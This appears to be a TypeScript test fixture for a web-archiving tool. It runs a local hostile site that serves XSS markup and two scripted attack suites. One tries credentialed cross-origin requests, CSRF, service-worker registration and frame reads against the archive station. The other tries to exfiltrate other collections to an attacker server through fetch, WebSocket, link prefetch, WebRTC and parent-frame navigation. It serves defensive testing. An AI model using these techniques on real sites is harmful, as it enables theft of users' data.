/** A web site that attacks those who archive it and those who view its captures. */
import { createServer, type Server } from 'node:http'

/** What must never be taken for markup, wherever it is shown. */
export const MARKUP = `"'><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>`

export interface HostileSite {
  url: string
  /** The address of the station that it attacks. */
  target: string
  close(): void
}

export async function startHostileSite(): Promise<HostileSite> {
  const site = { url: '', target: '', close: () => {} }
  const server: Server = createServer((request, response) => {
    const page = request.url === '/attack' ? attackPage(site.target) : titlePage()
    response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'x-evil': MARKUP.slice(0, 60) })
      .end(page)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  site.url = `http://127.0.0.1:${(server.address() as { port: number }).port}/`
  site.close = () => {
    server.close()
    server.closeAllConnections()
  }
  return site
}

function titlePage(): string {
  const title = MARKUP.replaceAll('<', '&lt;')
  return `<!doctype html><title>${title}</title><h1>${title}</h1>
    <a href="javascript:window.pwned=1">a</a> <a href="data:text/html,<script>window.pwned=1</script>">b</a>
    <a href="/attack">the attack</a> <a href="/?q=${encodeURIComponent(MARKUP)}">c</a>
    <script>document.body.dataset.ran = 'yes'</script>`
}

/** Whatever it manages is written into the page, for the test to read. */
function attackPage(target: string): string {
  return `<!doctype html><title>attack</title><h1>attack</h1><script>
    (${ATTACK})(${JSON.stringify(target)}).then((tried) => {
      document.body.dataset.tried = JSON.stringify(tried)
    })
  </script>`
}

/**
 * Everything a page of another origin can make a browser send to the station, with the reader's cookie: a function as
 * text, for a browser. Each try ends as `refused` or as what came of it.
 */
export const ATTACK = String.raw`async (target) => {
  const tried = {}
  const body = JSON.stringify({ seeds: ['http://stolen.test/'] })
  const attempt = async (name, act) => {
    const patience = new Promise((resolve) => setTimeout(() => resolve('refused'), 5_000))
    tried[name] = await Promise.race([act().catch(() => 'refused'), patience])
  }
  const read = async (path, options) => {
    const response = await fetch(target + path, { credentials: 'include', ...options })
    // What does not differ from nothing is nothing.
    return response.type === 'opaque' ? 'refused' : response.status + ' ' + (await response.text())
  }
  const loads = (tag, attribute, path) =>
    new Promise((resolve) => {
      const element = document.createElement(tag)
      element.addEventListener('load', () => resolve('loaded'))
      element.addEventListener('error', () => resolve('refused'))
      element.setAttribute(attribute, target + path)
      if (tag === 'link') element.setAttribute('rel', 'stylesheet')
      document.body.append(element)
    })
  await attempt('fetch', () => read('/api/me', {}))
  await attempt('fetch with a token', () => read('/api/me', { headers: { 'x-minga-token': 'x' } }))
  await attempt('fetch without reading', () => read('/api/me', { mode: 'no-cors' }))
  await attempt('post', () => read('/api/collections', { method: 'POST', mode: 'no-cors', body }))
  await attempt('delete', () => read('/api/sessions', { method: 'DELETE' }))
  await attempt('beacon', async () => {
    navigator.sendBeacon(target + '/api/collections', body)
    return 'refused'
  })
  await attempt('image', () => loads('img', 'src', '/api/collections'))
  await attempt('script', () => loads('script', 'src', '/api/collections'))
  await attempt('style', () => loads('link', 'href', '/api/collections'))
  await attempt('stream', () => new Promise((resolve) => {
    const source = new EventSource(target + '/api/events', { withCredentials: true })
    source.addEventListener('snapshot', ({ data }) => resolve('heard ' + data))
    source.addEventListener('error', () => {
      source.close()
      resolve('refused')
    })
  }))
  await attempt('service worker', async () => {
    await navigator.serviceWorker.register(target + '/icon.svg')
    return 'registered'
  })
  await attempt('opener', async () =>
    window.opener === null ? 'refused' : 'read ' + window.opener.localStorage.length,
  )
  await attempt('frame', async () => {
    const frame = document.createElement('iframe')
    frame.src = target + '/'
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 1_000))
    return 'read ' + frame.contentWindow.document.title
  })
  return tried
}`

/**
 * Everything an archived page can try to read of other collections, and to carry off what it has read: a function as
 * text, for the frame of a capture. Names and realms that the player does not rewrite are tried, too. It takes the
 * address of a server of the attacker, its port for UDP, where WebRTC looks for its own address, and addresses of what
 * other collections have.
 */
export const LEAK = String.raw`async ({ leak, stunPort, others }) => {
  const tried = {}
  const attempt = async (name, act) => {
    const patience = new Promise((resolve) => setTimeout(() => resolve('refused'), 5_000))
    tried[name] = await Promise.race([act().catch(() => 'refused'), patience])
  }
  const frame = document.createElement('iframe')
  document.body.append(frame)
  const realms = { own: window, fresh: frame.contentWindow }
  for (const [realm, { fetch, WebSocket, document: page }] of Object.entries(realms)) {
    for (const [i, url] of others.entries()) {
      await attempt(realm + ' reads ' + i, async () => {
        const response = await fetch(url)
        return response.ok ? 'read ' + (await response.text()).slice(0, 200) : 'refused'
      })
    }
    await attempt(realm + ' fetches', () => fetch(leak + '/fetch', { mode: 'no-cors' }).then(() => 'refused'))
    await attempt(realm + ' opens a socket', async () => {
      new WebSocket(leak.replace('http', 'ws') + '/socket')
      return 'refused'
    })
    for (const rel of ['preconnect', 'prefetch', 'dns-prefetch', 'stylesheet']) {
      const link = page.createElement('link')
      link.rel = rel
      link.href = leak + '/' + rel
      page.head.append(link)
    }
  }
  const connect = async ({ RTCPeerConnection }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + stunPort }] })
    peer.createDataChannel('secret')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => {
      peer.onicecandidate = ({ candidate }) => candidate === null && resolve()
    })
    return 'refused'
  }
  await attempt('connects', () => connect(window))
  window.open(leak + '/window')
  // When this was reported: a frame that tries to leave is none any more, and Chromium ends the process of one that
  // connects by way of an empty frame.
  setTimeout(() => {
    void connect(realms.fresh)
    for (let above = window; above !== above.parent;) {
      above = above.parent
      try { above.location = leak + '/above' } catch {}
      try { above.eval('location = "' + leak + '/eval"') } catch {}
    }
  }, 200)
  return tried
}`
